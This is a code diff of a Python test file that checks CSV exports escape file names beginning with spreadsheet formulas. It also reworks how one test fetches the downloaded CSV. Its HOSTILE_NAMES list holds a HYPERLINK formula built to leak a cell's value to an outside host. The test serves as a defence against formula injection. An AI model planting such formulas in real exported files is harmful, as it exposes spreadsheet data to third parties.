@@ -5,7 +5,6 @@ as text (``'=HYPERLINK(...)``), never as a formula; and such a file must still
 be checked.
 """
 
-import base64
 import csv
 import io
 import re
@@ -18,6 +17,7 @@ from jobkit.model.batches import BatchError, BatchResult
 from jobkit.output.batch_rows import BatchCsv
 from jobkit.output.csv_format import SafeDictWriter, spreadsheet_safe
 from tests.helpers import wait_for_batch
+from tests.web.test_report_downloads import fetch, report_form
 
 HOSTILE_NAMES = [
     '=HYPERLINK(CONCATENATE("http:",CHAR(47),CHAR(47),"host?leak=",B2),"Open resume").txt',
@@ -172,9 +172,9 @@ def test_report_page_csv_download(client, name):
                                            "pages": "1"},
                            content_type="multipart/form-data")
     assert response.status_code == 200, response.get_data(as_text=True)[:500]
-    links = re.findall(r"data:text/csv;charset=utf-8;base64,([A-Za-z0-9+/=]+)", response.get_data(as_text=True))
-    assert len(links) == 1
-    (row,) = _rows(base64.b64decode(links[0]).decode("utf-8"))
+    report, formats = report_form(response.get_data(as_text=True))  # the page's CSV button posts its report back
+    assert formats.count("csv") == 1
+    (row,) = _rows(fetch(client, report, "csv").get_data(as_text=True))
     assert row["file"] == "'" + name
 
 
